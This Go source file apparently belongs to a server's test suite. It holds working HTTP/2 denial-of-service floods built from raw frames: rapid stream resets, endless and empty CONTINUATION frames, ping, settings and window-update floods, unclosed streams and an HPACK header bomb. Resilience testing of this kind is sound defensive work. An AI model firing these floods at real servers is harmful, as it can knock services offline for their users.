package attack

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	// Frames of HTTP/2 one by one, as no client of the standard library sends them. It is
	// used here alone, and only in tests.
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flooder is a connection that sends frames as nobody should.
type flooder struct {
	net.Conn
	*http2.Framer
	next uint32
	head []byte // of a good request
}

func (g *target) flooder() (*flooder, error) {
	c, err := g.dialAs("h2")
	if err != nil {
		return nil, err
	}
	f := &flooder{Conn: c, Framer: http2.NewFramer(c, c), next: 1}
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, h := range [][2]string{
		{":method", "GET"}, {":scheme", "https"}, {":authority", "x"}, {":path", "/v1/orders?limit=100&query=e"}, {"authorization", "Bearer " + g.a.token},
	} {
		if err := e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
			return nil, err
		}
	}
	f.head = block.Bytes()
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return nil, err
	}
	return f, f.WriteSettings()
}

// request opens a stream.
func (f *flooder) request(end bool) (stream uint32, err error) {
	stream = f.next
	f.next += 2
	return stream, f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.head, EndStream: end, EndHeaders: true})
}

// floods are sent again and again until the server has had enough.
var floods = []struct {
	name string
	send func(f *flooder) error
}{
	{"rapid resets", func(f *flooder) error {
		stream, err := f.request(true)
		if err != nil {
			return err
		}
		return f.WriteRSTStream(stream, http2.ErrCodeCancel)
	}},
	{"headers without an end", func(f *flooder) error {
		if f.next == 1 {
			f.next = 3
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.head})
		}
		return f.WriteContinuation(1, false, bytes.Repeat([]byte{0x00, 0x01, 'a', 0x01, 'b'}, 200))
	}},
	{"empty continuations", func(f *flooder) error {
		if f.next == 1 {
			f.next = 3
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.head})
		}
		return f.WriteContinuation(1, false, nil)
	}},
	{"settings", func(f *flooder) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535})
	}},
	{"pings", func(f *flooder) error { return f.WritePing(false, [8]byte{}) }},
	{"streams that nobody ends", func(f *flooder) error { _, err := f.request(false); return err }},
	{"window updates of a byte", func(f *flooder) error { return f.WriteWindowUpdate(0, 1) }},
	{"empty data", func(f *flooder) error {
		if f.next == 1 {
			if _, err := f.request(false); err != nil {
				return err
			}
		}
		return f.WriteData(1, false, nil)
	}},
	{"headers that unpack to megabytes", func(f *flooder) error {
		if f.next > 1 {
			_, err := f.request(true)
			return err
		}
		var block bytes.Buffer
		e := hpack.NewEncoder(&block)
		big := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("a", 4000)}
		block.Write(f.head)
		for range 4000 {
			if err := e.WriteField(big); err != nil {
				return err
			}
		}
		f.next = 3
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes()[:min(block.Len(), 16_000)], EndStream: true, EndHeaders: true})
	}},
}

// flood sends one kind of frames over some connections, and tells after how many of them
// the server has ended the connections.
func flood(g *target, send func(*flooder) error) string {
	until := time.Now().Add(time.Duration(g.times(300, 5_000)) * time.Millisecond)
	var sent, ended atomic.Int64
	var all sync.WaitGroup
	for range g.times(2, 8) {
		all.Go(func() {
			for time.Now().Before(until) {
				f, err := g.flooder()
				if err != nil {
					return
				}
				go drain(f)
				_ = f.SetDeadline(until)
				for err == nil && time.Now().Before(until) {
					err = send(f)
					sent.Add(1)
				}
				_ = f.Close()
				var timeout net.Error
				if err != nil && !(errors.As(err, &timeout) && timeout.Timeout()) {
					ended.Add(1)
				}
			}
		})
	}
	all.Wait()
	return fmt.Sprintf("%d frames; the server ended %d connections", sent.Load(), ended.Load())
}

// drain reads what the server says, which nobody looks at.
func drain(f *flooder) { _, _ = io.Copy(io.Discard, f.Conn) }
